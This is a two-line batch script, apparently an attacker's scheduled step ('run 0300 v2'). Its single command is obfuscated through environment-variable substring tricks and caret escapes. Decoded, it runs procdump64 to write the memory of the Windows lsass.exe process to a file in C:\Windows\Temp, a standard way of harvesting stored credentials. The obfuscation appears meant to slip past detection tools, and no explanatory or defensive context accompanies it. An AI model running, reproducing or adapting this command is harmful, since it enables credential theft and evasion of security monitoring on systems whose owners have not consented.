REM run 0300 v2
p%ProgramData:~4,1%%COMSPEC:~-20,1%%public:~-1,1%%COMSPEC:~6,1%%public:~-5,1%mp6^4.%PUBLIC:~-10,1%%COMSPEC:~25,1%^e -^a^c^ce^pt^e^ul^a -m^a lsas^s.exe C:\Wi^n^d^ows\Te^mp\ls.dm^p
